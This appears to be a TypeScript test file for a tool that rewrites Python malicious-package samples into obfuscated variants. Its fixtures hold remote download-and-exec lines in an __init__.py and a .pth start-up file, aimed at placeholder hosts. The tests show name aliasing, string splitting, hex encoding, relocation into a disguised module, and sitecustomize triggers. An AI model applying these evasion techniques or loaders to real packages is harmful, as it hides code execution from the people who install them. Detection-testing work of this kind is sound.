import { expect, test } from 'vitest';
import { aliasNames, renameDefinitions } from './edit-names.ts';
import { cutStrings, hoistStrings } from './edit-strings.ts';
import { type Draft, type Replay, render, textOf } from './incident.ts';
import { REWRITES } from './rewrites.ts';

const SOURCE = `import os, base64 as b
from urllib.parse import quote


def _send(text="ab:cd"):
    """Stays."""
    line = text + b.b64encode(b"bytes").decode() + quote("a b") + f"{os.sep}{len(text)}"
    return exec(line, {"os": os})


_send(text="value")
`;

test('aliases reach imports, built-ins and the holes of f-strings, not attributes and keywords', () => {
  const code = aliasNames(SOURCE);

  expect(code).toContain('import os as _m1, base64 as _m2\nfrom urllib.parse import quote as _m3\n_f4 = exec\n');
  expect(code).toContain('_m2.b64encode(b"bytes").decode() + _m3("a b") + f"{_m1.sep}{len(text)}"');
  expect(code).toContain('return _f4(line, {"os": _m1})');
  expect(code).toContain('_send(text="value")');
});

test('an alias on one line stays on one line', () => {
  expect(aliasNames('import base64;exec(base64.b64decode("eA=="))\n')).toBe(
    'import base64 as _m1;_f2 = exec;_f2(_m1.b64decode("eA=="))\n',
  );
});

test('strings are cut into expressions of the same value, docstrings and f-strings are left alone', () => {
  expect(cutStrings('x = f("abcdef")\n', 'join')).toBe('x = f("".join(["abc", "def"]))\n');
  expect(cutStrings('x = f(b"abcdef")\n', 'format')).toBe('x = f((b"%s%s" % (b"abc", b"def",)))\n');
  expect(cutStrings('x = f("abcd" "ef")\n', 'reverse')).toBe('x = f("fedcba"[::-1])\n');
  expect(cutStrings('x = f("abcd")\n', 'chr')).toBe('x = f("".join(map(chr, [97, 98, 99, 100])))\n');
  expect(cutStrings('def f():\n    """abcdef"""\n    return f"abcdef"\n', 'concat')).toBe(
    'def f():\n    """abcdef"""\n    return f"abcdef"\n',
  );
});

test('a definition is renamed with its uses, a name that others could use is not', () => {
  const code = renameDefinitions(SOURCE, true);

  expect(code).not.toContain('_send');
  expect(code).not.toContain('line');
  expect(code).toContain('text="ab:cd"');
  expect(renameDefinitions(SOURCE, false)).toContain('def _send(text="ab:cd"):');
});

test('hoisted strings leave references behind', () => {
  const { source, values } = hoistStrings('call("a long text", b"more bytes", "no")\n', 't.V');

  expect(source).toBe('call(t.V0, t.V1, "no")\n');
  expect(values).toEqual(['"a long text"', 'b"more bytes"']);
});

function replayOf(site: Draft['sites'][number]): Replay {
  return {
    id: 'test',
    title: '',
    source: '',
    runs: '',
    remote: 'https://host.invalid',
    draft: (c) => ({
      kind: 'wheel',
      name: 'sample',
      version: '1.0',
      files: { 'sample/core.py': 'X = 1\n' },
      sites: [{ ...site, code: site.code.replace('HOST', c.base) }],
    }),
    lookAlikes: () => [],
  };
}

const MODULE = replayOf({
  path: 'sample/__init__.py',
  form: 'module',
  before: '"""Doc."""\n',
  code: 'import urllib.request\n\nexec(urllib.request.urlopen("HOST/x").read())\n',
  after: 'Y = 2\n',
});

const START_UP = replayOf({
  path: 'sample.pth',
  form: 'line',
  before: '',
  code: 'import urllib.request;exec(urllib.request.urlopen("HOST/x").read())\n',
  after: '',
});

function rewritten(replay: Replay, id: string): Draft['files'] | undefined {
  const draft = REWRITES.find((rewrite) => rewrite.id === id)?.apply(replay);
  return draft === undefined ? undefined : render(draft).files;
}

test('a moved payload stands in a sibling module that the old place imports', () => {
  const files = rewritten(MODULE, 'moved') ?? {};

  expect(textOf(files, 'sample/__init__.py')).toBe('"""Doc."""\nfrom . import _compat_runtime as _compat\nY = 2\n');
  expect(textOf(files, 'sample/_compat_runtime.py')).toContain('exec(urllib.request.urlopen(');
  expect(textOf(rewritten(START_UP, 'moved') ?? {}, 'sample.pth')).toBe('import _compat_runtime as _compat\n');
});

test('a line of a start-up file stays one line under the encoders and becomes a module elsewhere', () => {
  expect(textOf(rewritten(START_UP, 'encoder:hex') ?? {}, 'sample.pth')).toMatch(/^import sys;eval\([^\n]+\)\n$/);
  expect(textOf(rewritten(START_UP, 'trigger:sitecustomize.py') ?? {}, 'sitecustomize.py')).toBe(
    'import urllib.request\nexec(urllib.request.urlopen("https://host.invalid/x").read())\n',
  );
});

test('another host takes the place of the first everywhere', () => {
  const text = textOf(rewritten(MODULE, 'hosts:raw-ip') ?? {}, 'sample/__init__.py');

  expect(text).toContain('"http://203.0.113.77:8443/x"');
  expect(text).not.toContain('host.invalid');
});

test('a rewrite that has nothing to change says so', () => {
  expect(rewritten(START_UP, 'class')).toBeUndefined();
  expect(rewritten(MODULE, 'trigger:cmdclass')).toBeUndefined();
});

test.each(REWRITES.map((rewrite) => rewrite.id))('%s gives the same files each time', (id) => {
  expect(rewritten(MODULE, id)).toEqual(rewritten(MODULE, id));
});
